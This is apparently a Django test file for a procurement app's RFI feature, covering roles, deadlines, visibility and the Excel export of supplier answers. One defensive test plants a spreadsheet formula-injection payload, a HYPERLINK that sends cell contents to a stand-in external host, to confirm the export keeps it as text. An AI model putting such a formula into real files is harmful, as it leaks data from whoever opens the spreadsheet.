"""Market dialogue: the buyer asks the market before publication, suppliers answer."""

import datetime
from io import BytesIO

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from beredd.accounts.models import Organisation, OrganisationKind, Role, SizeClass
from beredd.dialogue.models import RequestForInformation, RfiAnswer
from beredd.procurement.models import Status
from tests.conftest import another_supplier, count_queries, make_user
from tests.test_publication_data import make_tender

TODAY = timezone.localdate


def rfi_post(draft, **changes) -> dict:
    data = {
        "procurement": draft.pk,
        "title": "Lagerhållning",
        "questions": "Hur många dagars lager håller ni?",
        "answer_deadline": (TODAY() + datetime.timedelta(days=10)).isoformat(),
    }
    data.update(changes)
    return data


def test_a_procurement_officer_sends_an_rfi_on_a_draft(client, procurer, draft):
    client.force_login(procurer)
    response = client.post(reverse("dialogue:rfi_create"), rfi_post(draft))
    assert response.status_code == 302
    assert RequestForInformation.objects.get().procurement == draft


def test_an_rfi_with_a_past_answer_date_is_refused_naming_the_field(client, procurer, draft):
    client.force_login(procurer)
    yesterday = (TODAY() - datetime.timedelta(days=1)).isoformat()
    response = client.post(
        reverse("dialogue:rfi_create"), rfi_post(draft, answer_deadline=yesterday)
    )
    assert response.status_code == 200
    assert "answer_deadline" in response.context["form"].errors
    assert not RequestForInformation.objects.exists()


def test_an_rfi_is_not_possible_on_a_published_tender_or_another_buyers_draft(
    client, procurer, buyer_org, other_org
):
    published = make_tender(buyer_org, "Publicerad")
    foreign = make_tender(other_org, "Främmande utkast", status=Status.DRAFT)
    client.force_login(procurer)
    for procurement in (published, foreign):
        response = client.post(reverse("dialogue:rfi_create"), rfi_post(procurement))
        assert response.status_code == 200
        assert "procurement" in response.context["form"].errors
    assert not RequestForInformation.objects.exists()


def test_only_procurement_officers_send_rfis(client, needs_owner, bid_manager, draft):
    for user in (needs_owner, bid_manager):
        client.force_login(user)
        assert client.get(reverse("dialogue:rfi_create")).status_code == 403


def test_a_supplier_sees_open_rfis_and_answers(client, bid_manager, rfi):
    client.force_login(bid_manager)
    listing = client.get(reverse("dialogue:rfi_list")).content.decode()
    assert rfi.title in listing
    url = reverse("dialogue:rfi_detail", args=[rfi.pk])
    assert client.post(url, {"text": "Tio kök per dag."}).status_code == 302
    assert client.post(url, {"text": "Tolv kök per dag."}).status_code == 302
    answer = RfiAnswer.objects.get()
    assert answer.text == "Tolv kök per dag."
    assert answer.organisation == bid_manager.organisation


def test_after_the_answer_date_the_rfi_is_closed_to_suppliers(client, bid_manager, rfi):
    rfi.answer_deadline = TODAY() - datetime.timedelta(days=1)
    rfi.save()
    client.force_login(bid_manager)
    assert rfi.title not in client.get(reverse("dialogue:rfi_list")).content.decode()
    response = client.post(reverse("dialogue:rfi_detail", args=[rfi.pk]), {"text": "Sent"})
    assert response.status_code == 404
    assert not RfiAnswer.objects.exists()


def test_the_buyer_sees_who_answered_and_exports_xlsx(client, procurer, bid_manager, rfi):
    RfiAnswer.objects.create(
        rfi=rfi, organisation=bid_manager.organisation, answered_by=bid_manager, text="Tio kök."
    )
    client.force_login(procurer)
    html = client.get(reverse("dialogue:rfi_detail", args=[rfi.pk])).content.decode()
    assert "Gårdsbageriet AB" in html and "Tio kök." in html
    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "Gårdsbageriet AB"
    assert rows[1][-1] == "Tio kök."


def test_other_buyer_roles_read_the_answers_but_are_not_offered_to_send_rfis(
    client, decision_maker, rfi
):
    client.force_login(decision_maker)
    assert client.get(reverse("dialogue:rfi_detail", args=[rfi.pk])).status_code == 200
    listing = client.get(reverse("dialogue:rfi_list")).content.decode()
    assert rfi.title in listing
    assert reverse("dialogue:rfi_create") not in listing


def test_another_buyer_sees_neither_the_rfi_nor_its_answers(client, outsider, rfi):
    client.force_login(outsider)
    assert rfi.title not in client.get(reverse("dialogue:rfi_list")).content.decode()
    assert client.get(reverse("dialogue:rfi_detail", args=[rfi.pk])).status_code == 404
    assert client.get(reverse("dialogue:rfi_export", args=[rfi.pk])).status_code == 404


def test_a_supplier_sees_only_its_own_answer_and_cannot_export(client, bid_manager, rfi):

    rival = Organisation.objects.create(
        name="Rival AB",
        slug="rival",
        kind=OrganisationKind.SUPPLIER,
        org_number="556074-7569",
        size_class=SizeClass.SMALL,
    )
    RfiAnswer.objects.create(rfi=rfi, organisation=rival, text="Rivalens svar")
    client.force_login(bid_manager)
    html = client.get(reverse("dialogue:rfi_detail", args=[rfi.pk])).content.decode()
    assert "Rivalens svar" not in html
    assert client.get(reverse("dialogue:rfi_export", args=[rfi.pk])).status_code == 403


def test_anonymous_visitors_are_sent_to_login_for_market_dialogue(client, rfi):
    for url in (
        reverse("dialogue:rfi_list"),
        reverse("dialogue:rfi_create"),
        reverse("dialogue:rfi_detail", args=[rfi.pk]),
        reverse("dialogue:rfi_export", args=[rfi.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 302
        assert "/accounts/login/" in response["Location"]


def test_the_draft_behind_an_rfi_stays_hidden_from_the_public(client, rfi, draft):
    assert client.get(reverse("publication:detail", args=[draft.pk])).status_code == 404
    assert draft.title not in client.get(reverse("publication:list")).content.decode()


def test_an_outsider_cannot_send_an_rfi_on_our_draft(client, outsider, draft):
    client.force_login(outsider)
    response = client.post(reverse("dialogue:rfi_create"), rfi_post(draft))
    assert response.status_code == 200
    assert "procurement" in response.context["form"].errors
    assert draft.title not in response.content.decode()
    assert not RequestForInformation.objects.exists()


# Many answers


def test_rfi_lists_and_answers_do_not_query_per_row(client, procurer, bid_manager, buyer_org, rfi):
    RfiAnswer.objects.create(rfi=rfi, organisation=another_supplier(0), text="Svar")
    urls = {
        procurer: [reverse("dialogue:rfi_list"), reverse("dialogue:rfi_detail", args=[rfi.pk])],
        bid_manager: [reverse("dialogue:rfi_list")],
    }
    before = {}
    for user, pages in urls.items():
        client.force_login(user)
        before[user] = [count_queries(client, url) for url in pages]
    for number in range(1, 6):
        draft = make_tender(buyer_org, f"Utkast {number}", status=Status.DRAFT)
        RequestForInformation.objects.create(
            procurement=draft,
            title=f"RFI {number}",
            questions="?",
            answer_deadline=timezone.localdate() + datetime.timedelta(days=5),
        )
        supplier = another_supplier(number)
        RfiAnswer.objects.create(
            rfi=rfi,
            organisation=supplier,
            answered_by=make_user(f"svar{number}", supplier, [Role.BID_MANAGER]),
            text="Svar",
        )
    for user, pages in urls.items():
        client.force_login(user)
        assert [count_queries(client, url) for url in pages] == before[user], user


# Bad input


def test_an_rfi_answer_that_looks_like_a_formula_stays_text_in_the_excel_export(
    client, procurer, bid_manager, rfi
):
    from io import BytesIO

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
    RfiAnswer.objects.create(rfi=rfi, organisation=bid_manager.organisation, text=formula)
    client.force_login(procurer)
    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
    sheet = load_workbook(BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=6)
    assert cell.value == formula
    assert cell.data_type == "s"


def test_an_rfi_answer_pasted_with_control_characters_does_not_break_the_export(
    client, procurer, bid_manager, rfi
):
    from io import BytesIO

    from openpyxl import load_workbook

    client.force_login(bid_manager)
    pasted = "Rad ett\x0bRad två\x1f"
    client.post(reverse("dialogue:rfi_detail", args=[rfi.pk]), {"text": pasted})
    assert RfiAnswer.objects.exists()
    client.force_login(procurer)
    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    assert "Rad två" in sheet.cell(row=2, column=6).value


def test_an_rfi_whose_answers_would_come_after_the_planned_publication_is_refused(
    client, procurer, draft
):
    draft.publication_date = timezone.localdate() + datetime.timedelta(days=5)
    draft.save()
    client.force_login(procurer)
    data = {
        "procurement": draft.pk,
        "title": "Lager",
        "questions": "Hur många dagars lager?",
        "answer_deadline": (timezone.localdate() + datetime.timedelta(days=10)).isoformat(),
    }
    response = client.post(reverse("dialogue:rfi_create"), data)
    assert response.status_code == 200
    assert "answer_deadline" in response.context["form"].errors
    assert not RequestForInformation.objects.filter(title="Lager").exists()
